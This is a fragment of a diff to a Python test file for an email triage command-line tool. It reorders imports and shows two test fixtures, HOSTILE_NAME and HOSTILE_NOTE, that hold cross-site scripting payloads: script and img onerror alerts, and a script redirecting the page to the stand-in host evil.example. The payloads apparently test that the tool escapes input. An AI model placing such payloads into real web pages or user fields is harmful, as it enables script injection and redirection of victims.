@@ -20,11 +20,11 @@ from aiosmtpd.controller import Controller
 from bs4 import BeautifulSoup
 from click.testing import CliRunner
 
+from testkit import layouts, mailboxes
 from testkit.imap import append, imap_connection, where, write_config
 from testkit.mailboxes import labeled_mailbox, message_id
-from testkit import layouts, mailboxes
-from triage.cli import main
 from testkit.people import Person
+from triage.cli import main
 
 HOSTILE_NAME = 'Eve <script>alert(1)</script> "><img src=x onerror=alert(2)>'
 HOSTILE_NOTE = ("Loved meeting you at the Bristol ops breakfast! <script>document.location='https://evil.example'"
